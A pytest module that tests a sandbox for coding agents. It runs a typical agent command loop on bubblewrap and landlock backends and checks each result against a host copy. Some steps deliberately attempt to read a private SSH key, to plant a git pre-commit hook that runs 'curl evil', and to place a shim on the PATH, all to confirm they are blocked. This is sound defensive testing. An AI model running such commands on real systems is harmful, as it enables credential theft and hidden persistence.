"""An agent's loop on a real sandbox: a git repository holding a small Python project, a
user configuration file giving a git identity, a toolchain installed under the home and
found on PATH, and the commands a coding agent typically runs, in sequence, through ONE
application (`Application.from_config`).

Each step runs its command in the sandboxed workspace and, where the policy changes
nothing, the same command bare on the host in a twin of the repository (copied before the
first step, kept in step): both must exit alike and print the same. Where the policy says
otherwise (a secret, a git hook, the network, a timeout, the output cap), the step asserts
the refusal and its explanation.

On landlock the workspace's top level and `.git/` take no new entry (they hold protected
paths, and a Landlock right granted on a directory holds for all below it; documented in
docs/backends.md): creating a top-level file, `git add` and `git commit` are refused
there, explained, and the twin is left as the sandbox left the workspace.

The project's test runs with `python3 -m unittest`, not pytest: the system python the
toolchain's shim runs has no pytest here, and the test installs nothing.
"""

from __future__ import annotations

import os
import resource
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path

import attrs
import pytest
from returns.result import Failure, Success

from mechasandbox import Application
from mechasandbox.backends.toolchains import TOOLCHAINS
from mechasandbox.domain.errors import SpawnFailed, Timeout
from mechasandbox.domain.result import RunResult
from mechasandbox.sandbox import Sandbox
from tests.conftest import require_available

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux backends")

SYSTEM_PYTHON = "/usr/bin/python3"
IDENTITY = {
    "GIT_AUTHOR_NAME": "Ada Lovelace",
    "GIT_AUTHOR_EMAIL": "ada@example.com",
    "GIT_COMMITTER_NAME": "Ada Lovelace",
    "GIT_COMMITTER_EMAIL": "ada@example.com",
}
# The host's identity for the repository's first commit: not the one the runs get.
SETUP_IDENTITY = {
    "GIT_AUTHOR_NAME": "Setup",
    "GIT_AUTHOR_EMAIL": "setup@example.com",
    "GIT_COMMITTER_NAME": "Setup",
    "GIT_COMMITTER_EMAIL": "setup@example.com",
}
PROJECT = {
    "README.md": "# calc\n\nAdds numbers.\n",
    "calc/__init__.py": '"""A tiny calculator."""\n\n\ndef add(a, b):\n    return a + b\n',
    "calc/cli.py": "import sys\n\nfrom calc import add\n\nprint(add(*map(int, sys.argv[1:3])))\n",
    "tests/__init__.py": "",
    "tests/test_calc.py": (
        "import unittest\n\nfrom calc import add\n\n\n"
        "class AddTest(unittest.TestCase):\n"
        "    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n"
    ),
    ".gitignore": "__pycache__/\n",
}
# On landlock: the top level and .git/ take no new entry (see the module's docstring).
NO_NEW_ENTRY = "takes no new entry, rename or removal on landlock"


@attrs.frozen
class Loop:
    """One application on one backend, its workspace, the host's twin of it, the fake home."""

    backend: str
    sandbox: Sandbox
    workspace: Path
    twin: Path
    home: Path
    host_env: dict[str, str]

    @property
    def landlock(self) -> bool:
        return self.backend == "landlock"

    def run(self, argv: Sequence[str], **options: object) -> RunResult:
        result = self.sandbox.run_sync(argv, **options)  # type: ignore[arg-type]
        assert isinstance(result, Success), result
        ran: RunResult = result.unwrap()
        assert ran.backend == self.backend
        return ran

    def host(
        self, argv: Sequence[str], stdin: bytes | None = None
    ) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(
            list(argv),
            cwd=self.twin,
            env=self.host_env,
            input=stdin,
            capture_output=True,
            timeout=30,
            check=False,
        )

    def same_as_host(self, argv: Sequence[str], stdin: bytes | None = None) -> RunResult:
        """Run `argv` in the sandbox and bare in the twin: same exit status, same output."""
        ran = self.run(argv, stdin=stdin)
        bare = self.host(argv, stdin)
        assert (ran.exit_code, ran.stdout) == (bare.returncode, bare.stdout), (
            ran.stderr,
            bare.stderr,
        )
        assert ran.violations == ()
        return ran


def _write_project(root: Path) -> None:
    for name, text in PROJECT.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    env = {**os.environ, **SETUP_IDENTITY}
    for argv in (
        ["git", "init", "-q", "-b", "main"],
        ["git", "add", "."],
        ["git", "commit", "-qm", "calc"],
    ):
        subprocess.run(argv, cwd=root, env=env, check=True)


def _fake_home(home: Path) -> None:
    """A pyenv-like shim running the system python, a tool in ~/.local/bin, an ssh key."""
    shim = home / ".pyenv/shims/python3"
    shim.parent.mkdir(parents=True)
    shim.write_text(f'#!/bin/sh\nexec {SYSTEM_PYTHON} "$@"\n')
    shim.chmod(0o755)
    tool = home / ".local/bin/mytool"
    tool.parent.mkdir(parents=True)
    tool.write_text('#!/bin/sh\necho "mytool $*"\n')
    tool.chmod(0o755)
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh/id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")


def _user_file(config_home: Path, backend: str) -> None:
    lines = [
        # landlock cannot hide the host's processes: this user says it may see them.
        *(['host_processes = "visible"'] if backend == "landlock" else []),
        "[backend]",
        f'name = "{backend}"',
        "[environment]",
        "set = { " + ", ".join(f'{name} = "{value}"' for name, value in IDENTITY.items()) + " }",
    ]
    (config_home / "mechasandbox").mkdir(parents=True)
    (config_home / "mechasandbox/config.toml").write_text("\n".join(lines) + "\n")


@pytest.fixture(
    scope="module",
    params=[
        pytest.param(name, marks=pytest.mark.backend(name)) for name in ("bubblewrap", "landlock")
    ],
)
def loop(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Loop]:
    backend: str = request.param
    base = tmp_path_factory.mktemp(f"agent-loop-{backend}")
    home, workspace, config_home = base / "home", base / "ws", base / "xdg-config"
    for directory in (home, workspace, config_home):
        directory.mkdir()
    _fake_home(home)
    _write_project(workspace)
    twin = base / "twin"
    shutil.copytree(workspace, twin, symlinks=True)
    _user_file(config_home, backend)
    path = f"{home}/.pyenv/shims:{home}/.local/bin:/usr/bin:/bin"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOME", str(home))
        patch.setenv("PATH", path)
        patch.setenv("XDG_CONFIG_HOME", str(config_home))
        for toolchain in TOOLCHAINS:  # the developer's own (`PYENV_ROOT`...) are elsewhere
            for name, _relative in toolchain.variables:
                patch.delenv(name, raising=False)
        app = Application.from_config(workspace=str(workspace)).unwrap()
        try:
            sandbox = app.services.sandbox()
            require_available(sandbox.backend)
            host_env = {"PATH": path, "HOME": str(home), "LANG": "C.UTF-8", **IDENTITY}
            yield Loop(backend, sandbox, workspace, twin, home, host_env)
        finally:
            app.shutdown_resources()


# The steps, in order: each continues from the workspace the ones before left.


def test_01_ls(loop: Loop) -> None:
    assert loop.same_as_host(["ls", "-1"]).stdout == b"README.md\ncalc\ntests\n"


def test_02_cat(loop: Loop) -> None:
    assert (
        loop.same_as_host(["cat", "calc/__init__.py"]).stdout
        == PROJECT["calc/__init__.py"].encode()
    )


def test_03_grep_rn(loop: Loop) -> None:
    found = loop.same_as_host(["grep", "-rn", "def add", "."]).stdout
    assert found == b"./calc/__init__.py:4:def add(a, b):\n"


def test_04_find(loop: Loop) -> None:
    loop.same_as_host(["sh", "-c", "find . -path ./.git -prune -o -name '*.py' -print | sort"])


def test_05_the_home_toolchain_is_found_first(loop: Loop) -> None:
    found = loop.same_as_host(["sh", "-c", "command -v python3; command -v mytool"]).stdout
    assert found == f"{loop.home}/.pyenv/shims/python3\n{loop.home}/.local/bin/mytool\n".encode()
    assert loop.same_as_host(["mytool", "--version"]).stdout == b"mytool --version\n"


def test_06_the_home_toolchain_is_read_only(loop: Loop) -> None:
    planted = loop.home / ".pyenv/shims/pytest"
    ran = loop.run(["sh", "-c", f"echo 'echo planted' > {planted}"])
    assert ran.exit_code != 0
    assert not planted.exists()
    (violation,) = ran.violations
    assert violation.kind == "filesystem"
    assert violation.detail.startswith(f"{planted}: read-only in the sandbox"), violation


def test_07_python_c(loop: Loop) -> None:
    argv = ["python3", "-c", "import sys, calc; print(calc.add(40, 2), sys.executable)"]
    assert loop.same_as_host(argv).stdout == f"42 {SYSTEM_PYTHON}\n".encode()
    assert loop.same_as_host(["python3", "-m", "calc.cli", "3", "4"]).stdout == b"7\n"


def test_08_the_project_tests(loop: Loop) -> None:
    ran = loop.same_as_host(["python3", "-m", "unittest", "-q"])
    assert ran.exit_code == 0
    assert b"Ran 1 test" in ran.stderr


def test_09_git_status_clean(loop: Loop) -> None:
    assert loop.same_as_host(["git", "status", "--short"]).stdout == b""


def test_10_edit_with_sed_in_a_subdirectory(loop: Loop) -> None:
    loop.same_as_host(["sed", "-i", "s/return a + b/return b + a/", "calc/__init__.py"])
    assert "return b + a" in (loop.workspace / "calc/__init__.py").read_text()
    # what the agent writes is 644 (umask 022), as on the host
    assert (loop.workspace / "calc/__init__.py").stat().st_mode & 0o777 == 0o644


def test_11_git_diff(loop: Loop) -> None:
    diff = loop.same_as_host(["git", "diff"]).stdout
    assert b"-    return a + b\n+    return b + a\n" in diff


def test_12_write_in_an_existing_subdirectory(loop: Loop) -> None:
    loop.same_as_host(["sh", "-c", "echo 'def sub(a, b):' > calc/ops.py && cat calc/ops.py"])
    assert (loop.workspace / "calc/ops.py").stat().st_mode & 0o777 == 0o644


def test_13_write_a_top_level_file(loop: Loop) -> None:
    argv = ["sh", "-c", "echo notes > new.txt"]
    if not loop.landlock:
        loop.same_as_host(argv)
        assert (loop.workspace / "new.txt").read_text() == "notes\n"
        return
    ran = loop.run(argv)
    assert ran.exit_code == 2
    assert not (loop.workspace / "new.txt").exists()
    (violation,) = ran.violations
    assert violation.detail.startswith(f"new.txt: the workspace's top level {NO_NEW_ENTRY}")


def test_14_make_nested_directories(loop: Loop) -> None:
    argv = ["sh", "-c", "mkdir -p a/b && echo deep > a/b/c.txt && cat a/b/c.txt"]
    if not loop.landlock:
        assert loop.same_as_host(argv).stdout == b"deep\n"
        assert (loop.workspace / "a").stat().st_mode & 0o777 == 0o755
        return
    ran = loop.run(argv)  # `a` would be a new entry of the top level
    assert ran.exit_code == 1
    assert not (loop.workspace / "a").exists()
    (violation,) = ran.violations
    assert NO_NEW_ENTRY in violation.detail


def test_15_git_status_sees_the_changes(loop: Loop) -> None:
    loop.same_as_host(["git", "status", "--short"])


def test_16_git_add(loop: Loop) -> None:
    argv = ["git", "add", "-A"]
    if not loop.landlock:
        loop.same_as_host(argv)
        return
    ran = loop.run(argv)
    assert ran.exit_code == 128
    (violation,) = ran.violations
    assert violation.detail.startswith(f".git/index.lock: .git/ {NO_NEW_ENTRY}")


def test_17_git_commit_with_the_identity_from_config(loop: Loop) -> None:
    argv = ["git", "commit", "-qam", "Swap the operands"]
    if loop.landlock:
        ran = loop.run(argv)
        assert ran.exit_code == 128
        (violation,) = ran.violations
        assert violation.detail.startswith(f".git/index.lock: .git/ {NO_NEW_ENTRY}")
        return
    loop.same_as_host(argv)
    shown = ["git", "log", "-1", "--format=%an <%ae>|%cn <%ce>|%s"]
    assert (
        loop.run(shown).stdout
        == b"Ada Lovelace <ada@example.com>|Ada Lovelace <ada@example.com>|Swap the operands\n"
    )


def test_18_git_log(loop: Loop) -> None:
    log = loop.same_as_host(["git", "log", "--format=%an|%s"]).stdout
    expected = b"Setup|calc\n"
    if not loop.landlock:
        expected = b"Ada Lovelace|Swap the operands\n" + expected
    assert log == expected


def test_19_git_status_after_the_commit(loop: Loop) -> None:
    loop.same_as_host(["git", "status", "--short"])


def test_20_sed_on_a_top_level_file(loop: Loop) -> None:
    argv = ["sed", "-i", "s/Adds numbers/Adds two numbers/", "README.md"]
    if not loop.landlock:
        loop.same_as_host(argv)
        assert "Adds two numbers" in (loop.workspace / "README.md").read_text()
        return
    ran = loop.run(argv)  # sed -i writes a new file beside the old one, then renames it
    assert ran.exit_code == 4
    assert "Adds numbers" in (loop.workspace / "README.md").read_text()
    (violation,) = ran.violations
    assert NO_NEW_ENTRY in violation.detail


def test_21_a_command_reading_stdin(loop: Loop) -> None:
    assert loop.same_as_host(["wc", "-c"], stdin=b"abc").stdout.strip() == b"3"
    upper = ["python3", "-c", "import sys; print(sys.stdin.read().upper(), end='')"]
    chunks: list[bytes] = []
    ran = loop.run(upper, stdin=b"line one\nline two\n", on_stdout=chunks.append)
    assert ran.stdout == b"".join(chunks) == b"LINE ONE\nLINE TWO\n"


def test_22_a_command_failing(loop: Loop) -> None:
    ran = loop.same_as_host(["python3", "-c", "import calc; assert calc.add(1, 1) == 3"])
    assert ran.exit_code == 1
    assert b"AssertionError" in ran.stderr


def test_23_a_command_not_found(loop: Loop) -> None:
    result = loop.sandbox.run_sync(["no-such-tool", "--help"])
    assert isinstance(result, Failure)
    error = result.failure()
    assert isinstance(error, SpawnFailed)
    assert error.exit_status == 127
    # through a shell, as on the host
    assert loop.same_as_host(["sh", "-c", "no-such-tool"]).exit_code == 127


def test_24_a_timeout_then_the_next_command(loop: Loop) -> None:
    policy = loop.sandbox.policy
    short = attrs.evolve(policy, limits=attrs.evolve(policy.limits, timeout_s=1.0))
    result = loop.sandbox.run_sync(["sh", "-c", "echo started; sleep 30"], policy=short)
    assert isinstance(result, Failure)
    error = result.failure()
    assert isinstance(error, Timeout)
    assert error.timeout_s == 1.0
    assert error.partial is not None
    assert error.partial.stdout == b"started\n"
    assert 1.0 <= error.partial.duration_s < 10
    assert loop.same_as_host(["echo", "still here"]).stdout == b"still here\n"


def test_25_fifty_megabytes_of_output(loop: Loop) -> None:
    cap = loop.sandbox.policy.limits.max_output_bytes
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    ran = loop.run(["sh", "-c", "head -c 50000000 /dev/zero | tr '\\0' a"])
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - before
    assert ran.exit_code == 0
    assert ran.stdout_truncated
    assert len(ran.stdout) == cap == 4 * 1024 * 1024
    assert ran.stdout == b"a" * cap
    assert grown < 40 * 1024 * 1024  # the 50 MB were never held here


def test_26_reading_a_secret_of_the_home(loop: Loop) -> None:
    secret = loop.home / ".ssh/id_rsa"
    ran = loop.run(["cat", str(secret)])
    assert ran.exit_code == 1
    assert ran.stdout == b""
    (violation,) = ran.violations
    assert violation.kind == "filesystem"
    assert violation.detail.startswith(f"{secret}: hidden: filesystem.deny_read '~/.ssh'")


def test_27_planting_a_git_hook(loop: Loop) -> None:
    hook = loop.workspace / ".git/hooks/pre-commit"
    ran = loop.run(["sh", "-c", "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit"])
    assert ran.exit_code == 2
    assert not hook.exists()
    (violation,) = ran.violations
    assert violation.detail.startswith(
        ".git/hooks/pre-commit: protected (filesystem.protected '.git/hooks')"
    )


def test_28_the_network_is_off(loop: Loop) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        connect = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5)"
        ran = loop.run(["python3", "-c", connect])
        listener.settimeout(0.2)
        with pytest.raises(TimeoutError):
            listener.accept()  # nothing reached the host's loopback
    assert ran.exit_code == 1
    if loop.landlock:  # no socket at all: said, with the option that would allow it
        assert b"Address family not supported" in ran.stderr
        (violation,) = ran.violations
        assert violation.kind == "network"
        assert "--network allowlist" in violation.detail
    else:  # a loopback of its own, where nothing listens
        assert b"ConnectionRefusedError" in ran.stderr


def test_29_the_project_tests_after_the_loop(loop: Loop) -> None:
    assert loop.same_as_host(["python3", "-m", "unittest", "-q"]).exit_code == 0


def test_30_the_workspace_matches_the_twin(loop: Loop) -> None:
    """What the loop left is what the same commands left on the host; inside bubblewrap,
    the missing protected paths show as empty read-only directories (documented in
    docs/backends-bubblewrap.md: they cannot be created), and on the host nothing of them."""
    listing = [
        "sh",
        "-c",
        "find . -mindepth 1 -path ./.git -prune -o -name __pycache__ -prune -o -print"
        " | sort | xargs ls -ld --time-style=+",
    ]
    inside = loop.run(listing)
    bare = loop.host(listing)
    assert (inside.exit_code, bare.returncode) == (0, 0)
    covers = {
        f"./{entry}"
        for entry in loop.sandbox.policy.filesystem.protected
        if "/" not in entry and not (loop.twin / entry).exists()
    }
    kept = []
    for line in inside.stdout.decode().splitlines():
        if line.split()[-1] in covers and not loop.landlock:
            assert line.startswith("dr-xr-xr-x"), line
            covers.discard(line.split()[-1])
        else:
            kept.append(line)
    assert kept == bare.stdout.decode().splitlines()
    assert loop.landlock or covers == set(), "each missing protected path is covered"
    in_workspace = subprocess.run(
        listing, cwd=loop.workspace, capture_output=True, check=True
    ).stdout.decode()
    assert in_workspace.splitlines() == kept  # and on the host, no cover is left behind
